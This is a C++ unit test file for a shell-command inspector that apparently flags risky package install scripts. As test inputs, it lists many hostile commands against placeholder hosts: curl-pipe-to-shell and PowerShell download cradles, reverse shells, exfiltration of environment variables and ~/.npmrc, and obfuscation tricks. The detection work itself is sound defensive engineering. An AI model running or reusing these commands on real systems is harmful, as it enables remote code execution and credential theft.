#include "inspect/shell_facts.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "inspect/shell.h"

namespace cordon::inspect {
namespace {

bool has(std::string_view command, FlagKind kind, RunHow how = RunHow::none) {
  const ShellReading reading = read_shell(command);
  return std::ranges::any_of(reading.facts,
                             [&](const ShellFact& each) { return each.kind == kind && each.how == how; });
}

using Texts = std::vector<std::string>;

Texts files(const ShellReading& reading) {
  Texts out;
  for (const StartedFile& each : reading.files)
    out.push_back((each.folder.empty() ? "" : each.folder + "/") + each.name);
  return out;
}

TEST(Shell, SplitsAsAShellDoes) {
  bool complete = false;
  const auto commands = split_shell("A=1 node 'a b.js' && \"c\"d | e >f 2>&1 ; # no\n g & h", complete);
  EXPECT_TRUE(complete);
  ASSERT_EQ(commands.size(), 5u);
  EXPECT_EQ(commands[0].words, Texts({"A=1", "node", "a b.js"}));
  EXPECT_EQ(commands[1].words, Texts({"cd"}));
  EXPECT_TRUE(commands[2].piped);
  EXPECT_EQ(commands[2].into, Texts({"f"}));
  EXPECT_TRUE(commands[3].background);
  EXPECT_EQ(commands[4].words, Texts({"h"}));
  EXPECT_EQ(started_by(commands[0]).front(), "node");
}

TEST(ShellFacts, WhatIsFetchedAndRun) {
  EXPECT_TRUE(has("curl -fsSL https://a.example.test/i.sh | sh", FlagKind::download_and_run, RunHow::shell));
  EXPECT_TRUE(has("sh -c \"$(wget -qO- https://a.example.test/i.sh)\"", FlagKind::download_and_run, RunHow::shell));
  EXPECT_TRUE(has("bash <(curl -s https://a.example.test/i)", FlagKind::download_and_run, RunHow::shell));
  EXPECT_TRUE(has("curl -o /tmp/l.py https://a.example.test/l && nohup python3 /tmp/l.py &", FlagKind::download_and_run,
                  RunHow::shell));
  EXPECT_TRUE(has("powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://a.example.test')\"",
                  FlagKind::download_and_run, RunHow::shell));
  EXPECT_TRUE(has("wget https://a.example.test/tool && chmod +x tool", FlagKind::download_and_run, RunHow::permitted));
}

TEST(ShellFacts, WhatIsOnlyFetchedOrOnlySaid) {
  EXPECT_FALSE(
      has("curl -o a.tgz https://a.example.test/a.tgz && tar xf a.tgz", FlagKind::download_and_run, RunHow::shell));
  EXPECT_FALSE(has("echo 'curl https://a.example.test/i.sh | sh'", FlagKind::download_and_run, RunHow::shell));
  EXPECT_FALSE(has("curl https://a.example.test/x | jq .name", FlagKind::download_and_run, RunHow::shell));
  EXPECT_FALSE(has("cat a.sh | sh", FlagKind::download_and_run, RunHow::shell));
}

TEST(ShellFacts, WhatStandsInOtherWords) {
  EXPECT_TRUE(has("certutil -urlcache -split -f https://a.example.test/a a.exe", FlagKind::shell_download));
  EXPECT_FALSE(has("certutil -hashfile a.exe", FlagKind::shell_download));
  EXPECT_TRUE(has("powershell -enc AAAA", FlagKind::encoded_payload));
  EXPECT_TRUE(has("echo x && echo YQ== | base64 -d | sh", FlagKind::encoded_payload));
  EXPECT_TRUE(has("npm publish", FlagKind::publish));
  EXPECT_TRUE(has("env | curl -d @- https://a.example.test", FlagKind::secrets_sent));
  EXPECT_TRUE(has("curl -F f=@$HOME/.npmrc https://a.example.test", FlagKind::secrets_sent));
  EXPECT_TRUE(has("echo evil >> ~/.bashrc", FlagKind::outside_write));
  EXPECT_FALSE(has("echo good >> ./notes.bashrc.txt", FlagKind::outside_write));
  EXPECT_TRUE(has("rm -f \"$0\"", FlagKind::self_deletion));
  EXPECT_TRUE(has("mv package.md package.json", FlagKind::manifest_write));
  EXPECT_TRUE(has("curl -fsSL https://bun.sh/install -o i", FlagKind::second_runtime));
}

TEST(ShellFacts, WhatOfThePackageIsStarted) {
  const ShellReading reading = read_shell(
      "node install.js || npm run build && sh -c 'node ./lib/x' ; node -e \"require('./y')\" ; prebuild-install");
  EXPECT_EQ(files(reading), Texts({"install.js", "./lib/x"}));
  EXPECT_EQ(reading.scripts, Texts({"build"}));
  EXPECT_EQ(reading.code, Texts({"require('./y')"}));
  EXPECT_EQ(reading.programs, Texts({"prebuild-install"}));
}

TEST(ShellFacts, WhatIsFetchedAndRunInOtherForms) {
  for (const char* command :
       {"{ curl -s https://a.example.test/x; } | sh", "(curl https://a.example.test/x; true) 2>/dev/null | sh",
        "if true; then curl https://a.example.test/x; fi | sh",
        "busybox wget -O- https://a.example.test/x | busybox sh", "curl https://a.example.test/x | xargs -0 node -e",
        "X=curl; $X -s https://a.example.test/x | sh", "curl https://a.example.test/x | bash -s stable",
        "X=\"$(curl -s https://a.example.test/x)\"; eval \"$X\"", "node -e \"$(curl -s https://a.example.test/x)\"",
        "bash -i >& /dev/tcp/a.example.test/4444 0>&1", "sh -i >&/dev/tcp/192.0.2.1/4444 0>&1",
        "exec 5<>/dev/tcp/a.example.test/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
        "nc -e /bin/sh a.example.test 4444", "rm -f f; mkfifo f; cat f | sh -i 2>&1 | nc a.example.test 4444 > f"})
    EXPECT_TRUE(has(command, FlagKind::download_and_run, RunHow::shell)) << command;
  for (const char* command :
       {"{ curl -s https://a.example.test/x; } | jq .", "V=$(curl -s https://a.example.test/version); bash build.sh $V",
        "curl https://a.example.test/list | xargs -n 1 node check.js", "{ ls; }; cat a | sh", "nc -z localhost 5432",
        "bash -c 'echo > /dev/tcp/localhost/5432'"})
    EXPECT_FALSE(has(command, FlagKind::download_and_run, RunHow::shell)) << command;
}

TEST(ShellFacts, SecretsThatARequestTakesAlong) {
  for (const char* command :
       {"curl -d \"$(env)\" https://a.example.test", "curl -d `printenv` https://a.example.test",
        "curl -d \"$(cat ~/.npmrc)\" https://a.example.test", "curl -T ~/.npmrc https://a.example.test",
        "wget --post-file=$HOME/.npmrc https://a.example.test", "curl -d @- https://a.example.test < ~/.npmrc",
        "wget \"https://a.example.test?$(env|base64)\"", "X=$(env); curl -d \"$X\" https://a.example.test",
        "env | nc a.example.test 80"})
    EXPECT_TRUE(has(command, FlagKind::secrets_sent)) << command;
  for (const char* command :
       {"curl --netrc-file ~/.netrc https://a.example.test", "curl \"$(grep registry ~/.npmrc)/x\"",
        "echo $(env); curl https://a.example.test/$(uname)", "curl -o ~/.npmrc https://a.example.test"})
    EXPECT_FALSE(has(command, FlagKind::secrets_sent)) << command;
}

TEST(ShellFacts, FilesThatNodeIsGiven) {
  const auto given = [](std::string_view command) { return files(read_shell(command)); };
  for (const char* command :
       {"node < i.js", "cat i.js | node", "node $PWD/i.js", "\"$npm_node_execpath\" i.js", "timeout 5 node i.js",
        "stdbuf -o0 node i.js", "nice -n 10 node i.js", "npx node@20 i.js", "sudo -u nobody node i.js",
        "${NODE:-node} i.js", "X=i.js; node $X", "trap 'node i.js' EXIT", "node ${npm_package_json%/*}/i.js",
        "for f in i.js; do node $f; done", "npm exec -- node i.js"}) {
    Texts found = given(command);
    ASSERT_EQ(found.size(), 1u) << command;
    EXPECT_TRUE(found[0] == "i.js" || found[0] == "./i.js") << command;
  }
  EXPECT_EQ(given("cd lib && node i.js"), Texts({"lib/i.js"}));
  EXPECT_EQ(given("node --require=./x.js --import ./y.mjs -e 1"), Texts({"./x.js", "./y.mjs"}));
  EXPECT_EQ(given("NODE_OPTIONS=\"--require ./x.js\" node -e 1"), Texts({"./x.js"}));
  const ShellReading unsure = read_shell("node --stack-size 900 i.js");
  ASSERT_EQ(unsure.files.size(), 1u);
  EXPECT_EQ(unsure.files[0].or_else, Texts({"i.js"}));
  EXPECT_EQ(read_shell("node -C dev i.js").files[0].or_else, Texts({"i.js"}));
  EXPECT_EQ(read_shell("node --eval=\"f()\"").code, Texts({"f()"}));
  EXPECT_EQ(read_shell("echo 'f()' | node").code, Texts({"f()"}));
}

TEST(ShellFacts, ScriptsByWhateverClient) {
  for (const char* command :
       {"npm run -s x", "npm run --silent x", "npm --prefix . run x", "npm --silent run x", "run-s x", "npm-run-all x",
        "yarn -s x", "yarn x", "node --run x", "node $npm_execpath run x", "pnpm -C . run x"})
    EXPECT_EQ(read_shell(command).scripts, Texts({"x"})) << command;
  EXPECT_EQ(read_shell("npm t").scripts, Texts({"test"}));
}

TEST(ShellFacts, WhatIsWrittenInTheOwnFolderIsNobodyElses) {
  EXPECT_FALSE(has("echo x > dist/.profile", FlagKind::outside_write));
  EXPECT_TRUE(has("cd ~ && echo x > .profile", FlagKind::outside_write));
  EXPECT_TRUE(has("echo x > ../../.claude/settings.json", FlagKind::outside_write));
  EXPECT_TRUE(has("echo x > $INIT_CWD/.mcp.json", FlagKind::outside_write));
}

TEST(ShellFacts, ManyCommandsAreReadInPart) {
  std::string text;
  for (int i = 0; i < 100'000; ++i) text += "$(";
  EXPECT_TRUE(read_shell(text).facts.empty());
  text.clear();
  for (int i = 0; i < 10'000; ++i) text += "a;";
  EXPECT_FALSE(read_shell(text).is_complete);
  EXPECT_TRUE(read_shell(text, kScriptLimits).is_complete);
}

bool runs(std::string_view command) { return has(command, FlagKind::download_and_run, RunHow::shell); }

TEST(ShellHidden, AHereDocumentHidesNothingBehindIt) {
  for (const char* command :
       {"cat <<EOF\nDon't worry\nEOF\ncurl https://f.invalid/x | sh",
        "cat <<-'END' >/dev/null\n\tDon't\n\tEND\ncurl https://f.invalid/x | sh",
        "sh <<EOF\ncurl https://f.invalid/x | sh\nEOF", "cat <<EOF | sh\ncurl https://f.invalid/x | sh\nEOF\n",
        "cat <<EOF\nsays \"$(curl https://f.invalid/x | sh)\"\nEOF",
        "cat <<EOF $(true)\nIt's\nEOF\ncurl https://f.invalid/x | sh",
        "X=$((1<<2))\ncurl https://f.invalid/x | sh\n2\n",
        "cat <<EOF > a.sh\ncurl https://f.invalid/x | sh\nEOF\nsh a.sh", "echo $'a\\'b'; curl https://f.invalid/x | sh",
        "$'\\x63url' https://f.invalid/x | sh", "rem Don't\ncurl https://f.invalid/x | sh"})
    EXPECT_TRUE(runs(command)) << command;
  for (const char* command : {"cat <<'EOF'\ncurl https://f.invalid/x | sh\nEOF",
                              "cat <<EOF > README\ncurl https://f.invalid/x | sh\nEOF\nsh a.sh",
                              "cat <<'EOF'\n$(curl https://f.invalid/x | sh)\nEOF\n"})
    EXPECT_FALSE(runs(command)) << command;
  EXPECT_EQ(read_shell("node <<EOF\nf()\nEOF\n").code, Texts({"f()\n"}));
  // Behind a quotation mark that nothing closes all is read for what it is.
  EXPECT_EQ(read_shell("echo ${x#'}; node x.js").files.size(), 1u);
  EXPECT_TRUE(runs("echo 'a\ncurl https://f.invalid/x | sh"));
  EXPECT_TRUE(read_shell("@echo off\nREM It isn't there\nnode x.js").is_complete);
  EXPECT_TRUE(read_shell("$url = $args[0]\n$x = \"a `\"b`\"\"\nnode x.js").is_complete);
  EXPECT_TRUE(read_shell("cat <<EOF\nDon't\nEOF\nnode x.js").is_complete);
}

TEST(ShellHidden, ManyHereDocumentsAreReadInLinearTime) {
  std::string text;
  for (int i = 0; i < 20'000; ++i) text += "a <<E\nb\n";
  EXPECT_FALSE(read_shell(text, kScriptLimits).is_complete);
  text.clear();
  for (int i = 0; i < 50'000; ++i) text += "'\n\"";
  read_shell(text, kScriptLimits);
}

TEST(ShellHidden, WhatIsSaidIsKeptWithinBounds) {
  std::string text = "echo " + std::string(60'000, 'a');
  for (int i = 0; i < 10'000; ++i) text += " | cat";
  EXPECT_FALSE(read_shell(text, kScriptLimits).is_complete);
  text = "wget -P " + std::string(200'000, 'a');
  for (int i = 0; i < 20'000; ++i) text += " https://f.invalid/" + std::to_string(i);
  read_shell(text, kScriptLimits);
  text = "curl -o a https://f.invalid; mv";
  for (int i = 0; i < 100'000; ++i) text += " a";
  read_shell(text + " " + std::string(200'000, 'b'), kScriptLimits);
}

TEST(ShellHidden, WhatIsPutIntoARedirectionRuns) {
  for (const char* command :
       {"bash < <(curl -s https://f.invalid/x)", "sh <<< \"$(curl https://f.invalid/x)\"",
        "true > \"$(sh -c 'curl https://f.invalid/x|sh')\"", "true >> `curl https://f.invalid/x|sh`",
        "curl https://f.invalid/x > >(sh)", "curl https://f.invalid/x | tee >(bash) >/dev/null"})
    EXPECT_TRUE(runs(command)) << command;
  for (const char* command : {"wc -l < <(curl -s https://f.invalid/x)", "bash < <(cat x.sh)",
                              "curl https://f.invalid/x > >(sha256sum)", "true > \"$(curl https://f.invalid/x)\""})
    EXPECT_FALSE(runs(command)) << command;
}

TEST(ShellForms, FilesThatADownloaderNames) {
  for (const char* command :
       {"curl -so a https://f.invalid/x; sh a", "curl -fsSLo a https://f.invalid/x; sh a",
        "curl -oa https://f.invalid/x; sh a", "wget -qO a https://f.invalid/x; sh a",
        "wget --output-document=a https://f.invalid/x; sh a", "curl --output=a https://f.invalid/x; sh ./a",
        "wget -O/tmp/a https://f.invalid/x; sh /tmp/a", "wget -P /tmp https://f.invalid/name; sh /tmp/name",
        "curl -O https://f.invalid/i.sh?v=1; sh i.sh", "(curl https://f.invalid/x) > a; sh a",
        "curl https://f.invalid/x > a.sh; mv a.sh b.sh; sh b.sh",
        "curl https://f.invalid/x > a.sh && cp a.sh lib/ && sh lib/a.sh",
        "curl https://f.invalid/x | tee a.sh; sh a.sh", "curl https://f.invalid/x | dd of=a.sh; sh a.sh",
        "curl https://f.invalid/x >| a; sh a", "curl https://f.invalid/x > a; sh < a",
        "curl https://f.invalid/x > a; cat a | sh"})
    EXPECT_TRUE(runs(command)) << command;
  for (const char* command :
       {"curl -fsSLo a.tgz https://f.invalid/x; sh a", "wget -P /tmp https://f.invalid/name; sh name2",
        "wget -qO- https://f.invalid/x | jq .; sh -", "curl https://f.invalid/x > a.json; mv a.json data/; sh build.sh",
        "curl https://f.invalid/x | tee log; sh a.sh", "curl -d o https://f.invalid/x; sh o"})
    EXPECT_FALSE(runs(command)) << command;
}

TEST(ShellForms, PipesThatLeadIntoAShell) {
  for (const char* command :
       {"curl https://f.invalid/x |\nsh", "curl https://f.invalid/x |& sh", "curl https://f.invalid/x | (sh)",
        "curl https://f.invalid/x | (cd /tmp && sh)", "curl https://f.invalid/x | if true; then sh; fi",
        "curl https://f.invalid/x | { cd /tmp; sh; }", "curl https://f.invalid/x | sh -s $(uname)",
        "$(curl https://f.invalid/x)", "`curl https://f.invalid/x`", "bash -c 'curl https://f.invalid/x' | bash",
        "echo 'curl https://f.invalid/x|sh' > a; sh a", "sh -c \"$(true; curl https://f.invalid/x)\"",
        "$(echo curl) https://f.invalid/x | sh"})
    EXPECT_TRUE(runs(command)) << command;
  for (const char* command :
       {"curl https://f.invalid/x | (cd /tmp && tar x); sh a.sh", "curl https://f.invalid/x | jq .; (cat y | sh)",
        "curl https://f.invalid/x | if true; then jq .; fi; cat y | sh",
        "V=$(curl https://f.invalid/v); $(which node) x.js", "bash -c 'curl -O https://f.invalid/x' | cat",
        "echo 'curl https://f.invalid/x|sh' > a; cat a"})
    EXPECT_FALSE(runs(command)) << command;
}

TEST(ShellForms, WhatEvalAndVariablesSay) {
  for (const char* command :
       {"A='curl https://f.invalid/x | sh'; eval \"$A\"", "A='curl https://f.invalid/x | sh'; sh -c \"$A\"",
        "A='curl https://f.invalid/x | sh'; eval $A", "eval curl https://f.invalid/x '|' sh",
        "A='curl https://f.invalid/x'; $A | sh", "A='curl https://f.invalid/x | sh'; sh <<< \"$A\""})
    EXPECT_TRUE(runs(command)) << command;
  for (const char* command : {"A='curl https://f.invalid/x | sh'; echo \"$A\"", "eval echo curl https://f.invalid/x",
                              "eval \"$(ssh-agent -s)\""})
    EXPECT_FALSE(runs(command)) << command;
}

TEST(ShellForms, CommandsThatOtherProgramsAreGiven) {
  for (const char* command :
       {"find . -exec sh -c 'curl https://f.invalid/x|sh' \\;", "su nobody -c 'curl https://f.invalid/x|sh'",
        "script -qc 'curl https://f.invalid/x|sh'", "concurrently \"curl https://f.invalid/x|sh\" b",
        "dotenv -- sh -c 'curl https://f.invalid/x|sh'", "curl https://f.invalid/x | while read l; do eval $l; done",
        "curl https://f.invalid/x | bun run -", "cmd /c curl https://f.invalid/x.bat -o x.bat && x.bat",
        "curl${IFS}https://f.invalid/x|sh", "python3 -c \"import os;os.system('curl https://f.invalid/x|sh')\""})
    EXPECT_TRUE(runs(command)) << command;
  for (const char* command :
       {"find . -exec sh -c 'curl https://f.invalid/x' \\;", "concurrently 'node a.js' 'curl https://f.invalid/x'",
        "curl https://f.invalid/x | while read l; do echo $l; done", "curl https://f.invalid/x | bun run lint",
        "cmd /c curl https://f.invalid/x.zip -o x.zip && x.bat", "python3 -c \"print('curl https://f.invalid/x')\""})
    EXPECT_FALSE(runs(command)) << command;
  EXPECT_EQ(read_shell("deno eval 'f()'").code, Texts({"f()"}));
  EXPECT_TRUE(has("sh -c \"$(echo YQ== | base64 -d)\"", FlagKind::encoded_payload));
}

TEST(ShellForms, Windows) {
  for (const char* command :
       {"powershell -c \"irm https://f.invalid/i.ps1|iex\"", "powershell -c \"iex (iwr https://f.invalid/x)\"",
        "powershell iex(irm https://f.invalid/x)",
        "powershell -NoProfile -Comm \"Invoke-Expression (Invoke-RestMethod https://f.invalid/x)\"",
        "powershell \"(New-Object Net.WebClient).DownloadFile('https://f.invalid/x','x.exe'); ./x.exe\"",
        "PowerShell -c \"IEX (New-Object Net.WebClient).DownloadString('https://f.invalid/x')\"",
        "iex (irm https://f.invalid/x)",
        "powershell -c \"iwr https://f.invalid/x -OutFile x.exe; Start-Process x.exe\"",
        "powershell -c \"&([scriptblock]::Create((irm https://f.invalid/x)))\"",
        "cmd /c start /b mshta https://f.invalid/x", "start /b mshta https://f.invalid/x",
        "start \"\" /wait mshta https://f.invalid/x", "regsvr32 /s /n /u /i:https://f.invalid/x.sct scrobj.dll",
        "msiexec /q /i https://f.invalid/x.msi"})
    EXPECT_TRUE(runs(command)) << command;
  for (const char* command :
       {"powershell -c \"iwr https://f.invalid/x.zip -OutFile x.zip; Expand-Archive x.zip; ./build.exe\"",
        "powershell -c \"(New-Object Net.WebClient).DownloadFile('https://f.invalid/x','x.zip')\"", "regsvr32 /s x.dll",
        "powershell -c \"Get-Item pirmy.txt | Start-Process\"", "start /b node x.js", "msiexec /i x.msi"})
    EXPECT_FALSE(runs(command)) << command;
  EXPECT_EQ(files(read_shell("start /b node x.js")), Texts({"x.js"}));
}

TEST(ShellForms, RuntimesAndClientsThatAreGivenAnAddress) {
  for (const char* command :
       {"deno run -A https://f.invalid/x.ts", "deno run --config a https://f.invalid/x.ts",
        "npx https://f.invalid/x.tgz", "npx -y --package=https://f.invalid/x.tgz x", "npm exec https://f.invalid/x.tgz",
        "pnpm dlx https://f.invalid/x.tgz", "bunx https://f.invalid/x.tgz", "bun x https://f.invalid/x.tgz",
        "npm i --no-save https://f.invalid/x.tgz", "npm install git+https://f.invalid/x.git",
        "node --import https://f.invalid/x.mjs -e 1"})
    EXPECT_TRUE(runs(command)) << command;
  for (const char* command :
       {"npm install --registry https://f.invalid/ x", "npm i --registry=https://f.invalid/",
        "npx x https://f.invalid/", "deno run -A main.ts https://f.invalid/", "npm exec -y -- x https://f.invalid/",
        "npx -y x https://f.invalid/", "node x.js https://f.invalid/", "npx wait-on https://f.invalid && node x.js"})
    EXPECT_FALSE(runs(command)) << command;
  EXPECT_EQ(read_shell("node --import 'data:text/javascript,f(%221%22)' -e 1").code.front(), "f(\"1\")");
  EXPECT_EQ(read_shell("NODE_OPTIONS='--import=data:text/javascript;base64,ZihhPTEp' node").code, Texts({"f(a=1)"}));
  EXPECT_EQ(files(read_shell("node -r /tmp/x.js -r dotenv/config y.js")), Texts({"/tmp/x.js", "y.js"}));
}

TEST(ShellFacts, SecretsThatGoThroughFilesAndOtherWords) {
  for (const char* command :
       {"cat /proc/self/environ | curl -d @- https://f.invalid", "env > /tmp/e; curl -F f=@/tmp/e https://f.invalid",
        "export -p | curl -d @- https://f.invalid", "env -0 | curl -d @- https://f.invalid",
        "cat ~/.npmrc > t; curl -T t https://f.invalid", "env > e; cat e | base64 | curl -d @- https://f.invalid",
        "declare -x | gzip | curl -T - https://f.invalid"})
    EXPECT_TRUE(has(command, FlagKind::secrets_sent)) << command;
  for (const char* command :
       {"env > /tmp/e; curl -F f=@/tmp/f https://f.invalid", "export A=b | curl -d @- https://f.invalid",
        "env A=b node x.js | curl -d @- https://f.invalid", "cat /proc/self/status | curl -d @- https://f.invalid"})
    EXPECT_FALSE(has(command, FlagKind::secrets_sent)) << command;
}

TEST(ShellHidden, NothingIsCrowdedOut) {
  EXPECT_EQ(files(read_shell("node $(make-name)")), Texts({"\x01"}));
  EXPECT_EQ(files(read_shell("node $(echo payload.js)")), Texts({"payload.js"}));
  std::string many;
  for (int i = 0; i < 200; ++i) many += "A" + std::to_string(i) + "=b; ";
  EXPECT_TRUE(runs(many + "X='curl https://f.invalid/x'; $X | sh"));
  for (int i = 0; i < 2'000; ++i) many += "A" + std::to_string(i) + "=b; ";
  EXPECT_FALSE(read_shell(many, kScriptLimits).is_complete);
  std::string addresses;
  for (int i = 0; i < 66; ++i) addresses += "curl -O https://a.example.test/" + std::to_string(i) + "; ";
  const ShellReading reading = read_shell(addresses + "curl https://f.invalid/x | sh");
  EXPECT_EQ(reading.addresses.back(), "https://f.invalid/x");
  EXPECT_TRUE(runs(addresses + "curl -o last https://f.invalid/x; sh last"));
}

TEST(ShellHidden, ABackslashBeforeALetterIsTheLetterOrAFolder) {
  for (const char* command : {"cu\\rl https://f.invalid/x | sh", "s\\h -c 'curl https://f.invalid/x | sh'",
                              "curl https://f.invalid/x | b\\ash", "\\curl https://f.invalid/x | \\sh",
                              "cmd /c cu^rl https://f.invalid/x | sh"})
    EXPECT_TRUE(runs(command)) << command;
  EXPECT_EQ(files(read_shell("node scripts\\build.js")), Texts({"scripts/build.js"}));
  EXPECT_EQ(files(read_shell("bin\\node x.js")), Texts({"x.js"}));
  EXPECT_EQ(files(read_shell("node .\\curl\\x.js")), Texts({"./curl/x.js"}));
}

}  // namespace
}  // namespace cordon::inspect
